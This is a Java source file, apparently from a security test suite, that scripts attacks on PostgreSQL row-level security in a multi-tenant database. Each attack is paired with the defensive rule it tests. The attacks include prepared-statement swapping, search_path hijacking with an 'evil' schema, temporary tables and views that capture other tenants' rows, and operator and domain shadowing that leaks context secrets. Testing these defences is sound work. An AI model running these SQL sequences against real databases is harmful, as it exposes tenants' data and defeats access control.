package dev.rls.liquibase.attacks;

import static dev.rls.liquibase.attacks.Rules.OWN_SCHEMA;

import java.sql.SQLException;
import java.util.List;
import java.util.Map;

/** What an attacker leaves in a session for the next who borrows it, and names that mean something else there. */
final class Pools {

    private static final String GROUP = "Pooled sessions and names";

    private static final String LOOK = "select * from invoice";

    private static final String WRITE = "insert into invoice values ('globex', 20, 'g47110815b', 1, 0)";

    /** As after a restore that was not finished. */
    private static final String TEMPORARY = "grant temporary on database {database} to application";

    private static final Rule PIN = Rule.of(
            "functions of schema rls pin their search_path", "alter function rls.claim_text(text) reset search_path");

    private static final String USUAL = "select number from invoice";

    /** Keeps a number for whoever asks the session for it. */
    private static final String LOOT = "select set_config('loot.number', number, false) from invoice";

    private static final String LOOTED = "select current_setting('loot.number', true)";

    private static final Rule DROPPED = Rule.of(
            "a bind drops what SQL text has prepared",
            "create or replace function rls.forget_prepared() returns void language sql as ''");

    private Pools() {}

    static List<Attack> all() {
        return List.of(
                of(
                        "plan-of-somebody",
                        "A prepared statement whose plan was made for globex",
                        Rule.of("the reader of a claim is STABLE", "alter function rls.claim_text(text) immutable"),
                        attacker -> {
                            Session session = attacker.open(Map.of("prepareThreshold", "1"))
                                    .sql("set plan_cache_mode = force_generic_plan");
                            attacker.somebodyElse(
                                    session,
                                    bob -> bob.bind(attacker.tokens().of("globex"))
                                            .call(LOOK)
                                            .commit());
                            session.bind(attacker.tokens().of("acme")).call(LOOK);
                        }),
                of(
                        "statement-of-the-driver",
                        "Another statement under the name that the driver has prepared",
                        DROPPED,
                        attacker -> {
                            Session session = attacker.open(Map.of("prepareThreshold", "1"));
                            session.bind(attacker.tokens().of("acme")).call(USUAL);
                            swap(session, USUAL, "", LOOT);
                            session.commit()
                                    .asSomebodyElse(
                                            bob -> bob.bind(attacker.tokens().of("globex"))
                                                    .call(USUAL)
                                                    .commit())
                                    .rollback()
                                    .sql(LOOTED);
                        }),
                of(
                        "commit-of-the-driver",
                        "Another statement under the name of the driver's COMMIT",
                        DROPPED,
                        attacker -> {
                            Session session = attacker.open(Map.of("prepareThreshold", "1"));
                            session.bind(attacker.tokens().of("acme")).commit();
                            // Others of the login see a session's name at once, whatever becomes of the transaction.
                            swap(
                                    session,
                                    "COMMIT",
                                    "",
                                    "select set_config('application_name', number, false) from invoice");
                            session.sql("commit")
                                    .asSomebodyElse(
                                            bob -> bob.bind(attacker.tokens().of("globex"))
                                                    .commit());
                            attacker.open().sql("select application_name from pg_stat_activity");
                        }),
                of(
                        "bind-of-the-driver",
                        "Another statement under the name that the driver has given the bind",
                        Rule.ofTheClient(
                                "the driver does not keep the bind on the server (prepareThreshold 0)",
                                "prepareThreshold is 1"),
                        attacker -> {
                            Session session =
                                    attacker.open(Map.of("prepareThreshold", attacker.ruleTaken() ? "1" : "0"));
                            session.bind(attacker.tokens().of("acme")).commit();
                            swap(
                                    session,
                                    "select rls.bind($1)",
                                    "(text)",
                                    "select set_config('loot.number', $1, false)");
                            session.commit()
                                    .asSomebodyElse(
                                            bob -> bob.bind(attacker.tokens().of("globex"))
                                                    .commit());
                            String token = session.value(LOOTED);
                            String bind = "select rls.bind('" + token + "')";
                            session.sql(bind, bind, LOOK); // the first drops what was swapped
                        }),
                of(
                        "schema-in-front",
                        "A schema of one's own in front, which catches what others write",
                        Rule.of(
                                "CREATE on the database is not granted",
                                "grant create on database {database} to application"),
                        attacker -> {
                            Session session = attacker.open()
                                    .sql(
                                            "create schema evil",
                                            "create table evil.invoice (like public.invoice)",
                                            "set search_path = evil, public")
                                    .commit();
                            caught(attacker, session);
                            session.sql("select * from evil.invoice");
                        }),
                of(
                        "temporary-table",
                        "A temporary table that catches what others write",
                        Rule.of("TEMPORARY is not granted", TEMPORARY),
                        attacker -> {
                            Session session = attacker.open()
                                    .sql("create temporary table invoice (like public.invoice)")
                                    .commit();
                            caught(attacker, session);
                            session.sql("select * from pg_temp.invoice");
                        }),
                of(
                        "temporary-view",
                        "A temporary view that claims others see instead of the table",
                        Rule.of("TEMPORARY is not granted", TEMPORARY),
                        attacker -> {
                            Session session = attacker.open()
                                    .sql(
                                            "create temporary view invoice as"
                                                    + " select i.*, set_config('loot.number', i.number, false) from public.invoice i")
                                    .commit();
                            attacker.somebodyElse(
                                    session,
                                    bob -> bob.bind(attacker.tokens().of("globex"))
                                            .sql(LOOK)
                                            .commit());
                            session.sql("select current_setting('loot.number', true)");
                        }),
                of(
                        "better-match",
                        "A function in schema public that fits better than PostgreSQL's own",
                        Rule.of(
                                "CREATE on schema public is not granted",
                                "grant create on schema public to application"),
                        attacker -> {
                            Session session = attacker.open()
                                    .sql("create function public.upper(varchar) returns text language plpgsql as"
                                            + " $$ begin perform set_config('loot.name', $1, false); return $1; end $$")
                                    .commit();
                            attacker.somebodyElse(
                                    session,
                                    bob -> bob.bind(attacker.tokens().of("globex"))
                                            .sql("select upper(name) from customer")
                                            .commit());
                            session.sql("select current_setting('loot.name', true)");
                        }),
                of(
                        "function-in-front",
                        "A function of one's own in front of one that schema rls calls",
                        PIN.given(OWN_SCHEMA),
                        attacker -> attacker.open()
                                .sql(
                                        "grant usage on schema evil to public",
                                        "create function evil.starts_with(text, text) returns boolean language sql as 'select true'",
                                        "set search_path = evil, pg_catalog",
                                        "select set_config('rls.ctx', repeat('0', 64) || '00017fffffffffffffff' || chr(30)"
                                                + " || 'tenant_id' || chr(31) || '\"globex\"', true)",
                                        "select * from public.invoice")),
                of(
                        "operator-in-front",
                        "An operator of one's own in front of one that schema rls uses",
                        PIN.given(OWN_SCHEMA),
                        attacker -> attacker.open()
                                .sql(
                                        "grant usage on schema evil to public",
                                        "create function evil.tell(text, text) returns boolean language plpgsql as $$ begin"
                                                + " raise notice '%', (select string_agg(secret_a::text, ' ')"
                                                + " from rls.context_secret); return true; end $$",
                                        "create operator evil.~~ (leftarg = text, rightarg = text, function = evil.tell)",
                                        "set search_path = evil, pg_catalog")
                                .bind(attacker.tokens().of("acme"))
                                .sql("select rls.claim_text('tenant_id')")),
                of(
                        "operator-in-front-of-a-policy",
                        "An operator of one's own in front of the one that the policy compares with",
                        Rule.of(
                                        "a policy has its operators from when it was created",
                                        "create function mine(tenant text) returns boolean language plpgsql stable as"
                                                + " $$ begin return tenant = rls.claim_text('tenant_id'); end $$",
                                        "alter policy rls_tenant_restrict on invoice using (mine(tenant_id))",
                                        "alter policy rls_tenant_permit on invoice using (mine(tenant_id))")
                                .given(OWN_SCHEMA),
                        attacker -> attacker.open()
                                .sql(
                                        "create function evil.same(text, text) returns boolean language sql as 'select true'",
                                        "create operator evil.= (leftarg = text, rightarg = text, function = evil.same)")
                                .bind(attacker.tokens().of("acme"))
                                .sql("set local search_path = evil, pg_catalog", "select * from public.invoice")),
                of(
                        "temporary-type",
                        "A temporary domain whose constraint runs as rls_owner",
                        PIN.given(TEMPORARY),
                        attacker -> attacker.boundToAcme()
                                .sql(
                                        "create function pg_temp.tell(pg_catalog.text) returns boolean language plpgsql as $$ begin"
                                                + " raise notice '%', (select string_agg(secret_a::pg_catalog.text, ' ')"
                                                + " from rls.context_secret); return true; end $$",
                                        "create domain pg_temp.text as pg_catalog.text check (pg_temp.tell(value))",
                                        "select rls.claim_text('tenant_id')")));
    }

    private static void caught(Attacker attacker, Session session) throws java.sql.SQLException {
        attacker.somebodyElse(
                session,
                bob -> bob.bind(attacker.tokens().of("globex")).sql(WRITE).commit());
    }

    private static Attack of(String id, String tries, Rule rule, Attack.Script script) {
        return Attack.of(id, GROUP, tries, rule, script);
    }

    /** Puts another statement under the name of one that the driver has prepared. */
    private static void swap(Session session, String statement, String types, String other) throws SQLException {
        String name = session.value("select name from pg_prepared_statements where statement = '" + statement + "'");
        session.sql("deallocate \"" + name + '"', "prepare \"" + name + '"' + types + " as " + other);
    }
}
